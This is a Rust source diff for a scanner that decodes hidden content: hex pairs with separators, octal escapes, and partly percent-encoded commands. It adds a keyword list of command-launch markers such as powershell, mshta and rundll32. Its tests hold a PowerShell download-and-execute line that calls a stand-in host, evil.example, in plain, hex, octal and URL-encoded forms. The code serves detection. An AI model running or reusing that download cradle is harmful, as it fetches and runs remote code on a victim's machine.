@@ -14,6 +14,9 @@ use crate::score::{self, Kind};
 /// Characters of a blob: shorter ones are words.
 const LEAST_BASE64: usize = 24;
 const LEAST_HEX: usize = 32;
+/// Pairs of digits with signs between them, and bytes of such a sign and what stands beside it.
+const LEAST_PAIRS: usize = 16;
+const MAX_GAP: usize = 8;
 const LEAST_ESCAPES: usize = 8;
 const LEAST_NUMBERS: usize = 16;
 /// How sure it must be that what was decoded was written.
@@ -27,6 +30,8 @@ const MAX_GUESSES: usize = 8;
 enum Encoding {
     Base64,
     Hex,
+    /// Pairs of hexadecimal digits with signs between them.
+    Pairs,
     Hexed,
     Percent,
     Entities,
@@ -63,6 +68,10 @@ pub fn find(data: &[u8], guessing: bool, budget: &mut Budget) -> Vec<Found> {
         }
     }
     found.extend(reversed(data));
+    let is_url = |one: &&Found| one.technique == Technique::Url;
+    let urls: Vec<Range<usize>> = found.iter().filter(is_url).map(|one| one.start..one.end).collect();
+    let is_new = |one: &Found| urls.iter().all(|url| url.end <= one.start || one.end <= url.start);
+    found.extend(partly_escaped(data).into_iter().filter(is_new));
     found.sort_by_key(|one| one.start);
     found
 }
@@ -77,7 +86,12 @@ fn decoded(
 ) -> Option<Found> {
     match encoding {
         Encoding::Base64 => base64_run(run, alphabet, guesses, may_grow),
-        Encoding::Hex => accepted(Technique::Hex, text::hex_strict(run)?, guesses),
+        Encoding::Hex => {
+            let digits: Vec<u8> = run.iter().copied().filter(u8::is_ascii_hexdigit).collect();
+            accepted(Technique::Hex, text::hex_strict(&digits)?, guesses)
+        }
+        // Fingerprints and addresses of devices are written so: no keys are guessed for them.
+        Encoding::Pairs => accepted(Technique::Hex, text::hex_loose(run)?, &mut 0),
         Encoding::Hexed => {
             accepted(Technique::UnicodeEscape, text::escapes(std::str::from_utf8(run).ok()?).into_bytes(), &mut 0)
         }
@@ -166,11 +180,14 @@ fn span(data: &[u8], at: usize, is: impl Fn(u8) -> bool) -> usize {
 
 /// What begins at a place, and where it ends.
 fn run_at(data: &[u8], at: usize) -> (Option<Encoding>, usize) {
+    if let Some((encoding, end)) = pairs(data, at) {
+        return (encoding, end);
+    }
     match data[at] {
         b'\\' => repeated(data, at, Encoding::Hexed, LEAST_ESCAPES, |rest| match rest.get(1)? {
             b'x' => Some(4),
             b'u' => Some(6),
-            _ => None,
+            _ => octal(rest),
         }),
         b'%' => repeated(data, at, Encoding::Percent, LEAST_ESCAPES, |rest| {
             rest.get(1).map(|byte| if matches!(byte, b'u' | b'U') { 6 } else { 3 })
@@ -185,6 +202,49 @@ fn run_at(data: &[u8], at: usize) -> (Option<Encoding>, usize) {
         byte if is_base64(byte) || byte == b'=' => base64_span(data, at),
         _ => (None, at + 1),
     }
+}
+
+/// The length of `\ooo` or `\oo`.
+fn octal(rest: &[u8]) -> Option<usize> {
+    let digits = rest.iter().skip(1).take(3).take_while(|byte| (b'0'..=b'7').contains(*byte)).count();
+    match digits {
+        3 if rest.get(1).is_some_and(|byte| *byte <= b'3') => Some(4),
+        2.. => Some(3),
+        _ => None,
+    }
+}
+
+/// `49 45 58`, `49-45-58`, `49:45:58`, ...: pairs of digits with the same sign between them, in lines or not. None where
+/// they are too few. All of them decimal are numbers, and behind an offset they are a dump, which is there to be read.
+fn pairs(data: &[u8], at: usize) -> Option<(Option<Encoding>, usize)> {
+    let is_digit = |at: usize| data.get(at).is_some_and(u8::is_ascii_hexdigit);
+    let is_word = |at: usize| data.get(at).is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'_');
+    let separator = *data.get(at + 2).filter(|byte| matches!(byte, b' ' | b'-' | b':' | b';' | b','))?;
+    if at.checked_sub(1).is_some_and(is_word) {
+        return None;
+    }
+    let (mut count, mut end, mut next) = (0, at, at);
+    while is_digit(next) && is_digit(next + 1) && !is_word(next + 2) {
+        (count, end) = (count + 1, next + 2);
+        next = span(data, end, |byte| byte == separator || byte.is_ascii_whitespace());
+        let gap = data.get(end..next).unwrap_or_default();
+        if gap.len() > MAX_GAP || !(gap.contains(&separator) || gap.contains(&b'\n')) {
+            break;
+        }
+    }
+    let run = data.get(at..end).unwrap_or_default();
+    if count < LEAST_PAIRS || !run.iter().any(u8::is_ascii_alphabetic) {
+        return None;
+    }
+    Some((if is_behind_offset(data, at) { None } else { Some(Encoding::Pairs) }, end))
+}
+
+/// Whether a line begins with a hexadecimal number that ends before this place.
+fn is_behind_offset(data: &[u8], at: usize) -> bool {
+    let before = data.get(at.saturating_sub(24)..at).unwrap_or_default();
+    let line = before.rsplit(|byte| *byte == b'\n').next().unwrap_or_default().trim_ascii();
+    let number = line.strip_suffix(b":").unwrap_or(line);
+    number.len() >= 4 && number.iter().all(u8::is_ascii_hexdigit)
 }
 
 /// `unit` tells the length of one escape at the beginning of what it is given.
@@ -248,7 +308,9 @@ fn base64_span(data: &[u8], at: usize) -> (Option<Encoding>, usize) {
     let length = end - lead;
     let run = data.get(lead..end).unwrap_or_default();
     let padded = span(data, end, |byte| byte == b'=').min(end + 2);
-    if length >= LEAST_HEX && length.is_multiple_of(2) && run.iter().all(u8::is_ascii_hexdigit) {
+    let breaks = run.iter().filter(|byte| matches!(byte, b'\r' | b'\n')).count();
+    let digits = run.iter().filter(|byte| byte.is_ascii_hexdigit()).count();
+    if digits >= LEAST_HEX && digits.is_multiple_of(2) && digits + breaks == length {
         return (Some(Encoding::Hex), end);
     }
     let is_word = run.iter().all(u8::is_ascii_lowercase)
@@ -335,4 +397,128 @@ fn reversed(data: &[u8]) -> Vec<Found> {
         }
     }
     found
+}
+
+/// Escapes of which a few are worth a layer, where they hide one of the following.
+const LEAST_PARTLY: usize = 3;
+/// What is run by one line; lower case.
+const COMMANDS: [&str; 16] = [
+    "powershell -",
+    "powershell.exe -",
+    "powershell /",
+    "cmd /c",
+    "cmd.exe /c",
+    "iex ",
+    "iex(",
+    "invoke-",
+    "new-object ",
+    "mshta ",
+    "rundll32 ",
+    "regsvr32 ",
+    "bash -c",
+    "<script",
+    "javascript:",
+    "eval(",
+];
+/// How links begin that name another place, which is no secret of theirs.
+const LINKS: [&str; 6] = ["/", "?", "#", ".", "mailto:", "data:"];
+
+/// Words with escapes in them, as of a query, that have a command or an address in them which nobody can read there.
+fn partly_escaped(data: &[u8]) -> Vec<Found> {
+    let mut found = Vec::new();
+    let is_end = |byte: &u8| byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'`' | b'<' | b'>');
+    let mut from = 0;
+    while data.len() <= MAX_LAYER
+        && found.len() < MAX_BLOBS
+        && let Some(at) = data.get(from..).and_then(|rest| memchr::memchr(b'%', rest)).map(|at| from + at)
+    {
+        let start = data[from..at].iter().rposition(is_end).map_or(from, |end| from + end + 1);
+        let end = data[at..].iter().position(is_end).map_or(data.len(), |end| at + end);
+        from = end;
+        let word = &data[start..end];
+        let plain = text::percent(word);
+        if plain.len() + 2 * LEAST_PARTLY <= word.len() && reveals(word, &plain) {
+            found.push(Found::part(Technique::Url, 85, plain).at(start, end));
+        }
+    }
+    found
+}
+
+fn reveals(word: &[u8], plain: &[u8]) -> bool {
+    let lower = |bytes: &[u8]| crate::decode::lossy(bytes).to_ascii_lowercase();
+    let (before, after) = (lower(word), lower(plain));
+    let is_new = |sign: &str| after.contains(sign) && !before.contains(sign);
+    let is_link = before.contains("://") || LINKS.iter().any(|link| before.starts_with(link));
+    COMMANDS.iter().any(|sign| is_new(sign)) || (!is_link && ["http://", "https://"].iter().any(|sign| is_new(sign)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const SCRIPT: &str = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')";
+
+    fn contents(text: &str) -> Vec<String> {
+        let found = find(text.as_bytes(), false, &mut Budget::new(text.len())).into_iter();
+        found.map(|one| String::from_utf8(one.content).expect("text")).collect()
+    }
+
+    fn digits(text: &str, separator: &str) -> String {
+        text.bytes().map(|byte| format!("{byte:02x}")).collect::<Vec<_>>().join(separator)
+    }
+
+    #[test]
+    fn pairs_of_digits_may_be_apart() {
+        for separator in [" ", "-", ":", ";", ",", ", ", "\n", "  ", " \r\n"] {
+            if separator != "\n" {
+                assert_eq!(contents(&digits(SCRIPT, separator)), [SCRIPT], "{separator:?}");
+                assert_eq!(contents(&digits(SCRIPT, separator).to_uppercase()), [SCRIPT], "{separator:?}");
+            }
+        }
+        let lines = |width: usize, text: &str| {
+            let lines = text.as_bytes().chunks(width).map(|line| std::str::from_utf8(line).expect("ASCII"));
+            lines.collect::<Vec<_>>().join("\n")
+        };
+        let long = SCRIPT.repeat(3);
+        for width in [40, 60, 64] {
+            assert_eq!(contents(&lines(width, &digits(&long, ""))), [long.as_str()], "{width}");
+        }
+        assert_eq!(contents(&lines(48, &digits(&long, " "))), [long.as_str()]);
+    }
+
+    #[test]
+    fn honest_digits_are_no_text() {
+        let noise = |separator: &str| {
+            let bytes = (0..64_u32).map(|index| (index.wrapping_mul(2_654_435_761) >> 13) & 255);
+            bytes.map(|byte| format!("{byte:02X}")).collect::<Vec<_>>().join(separator)
+        };
+        let ages = "32 45 67 41 55 52 38 61 49 70 66 53 48 57 62 59 44 47 51 68 39 65 43 56";
+        let dump = "00000000  49 45 58 20 28 4e 65 77  2d 4f 62 6a 65 63 74 20  |IEX (New-Object |\n";
+        let hashes = format!("{0}\n{0}\n{0}\n", &noise("")[..40]);
+        for text in [&noise(":"), &noise(" "), &noise("-"), ages, &dump.repeat(4), &hashes, "00:1a:2b:3c:4d:5e"] {
+            assert!(contents(text).is_empty(), "{text}");
+        }
+    }
+
+    #[test]
+    fn octal_escapes_are_undone() {
+        let octal: String = SCRIPT.bytes().map(|byte| format!("\\{byte:o}")).collect();
+        assert_eq!(contents(&octal), [SCRIPT]);
+        assert!(contents("(.)(.)(.) -> \\1\\2\\3\\4\\5\\6\\7\\1\\2\\3\\4").is_empty());
+    }
+
+    #[test]
+    fn partly_escaped_commands_and_addresses_are_undone() {
+        let command = "cmd=powershell%20-nop%20-c%20%22IEX%20x.Get(%27http%3A%2F%2Fevil.example%27)%22";
+        assert_eq!(contents(command), ["cmd=powershell -nop -c \"IEX x.Get('http://evil.example')\""]);
+        assert_eq!(contents("u=http%3A%2F%2Fevil.example/a"), ["u=http://evil.example/a"]);
+        for honest in [
+            "https://example.com/share?u=https%3A%2F%2Fexample.org%2Fpage",
+            "<a href=\"/share?u=https%3A%2F%2Fexample.org%2F\">",
+            "100%25%20of%20all",
+            "50% of this, 20% of that, %d and %s",
+        ] {
+            assert!(contents(honest).is_empty(), "{honest}");
+        }
+    }
 }
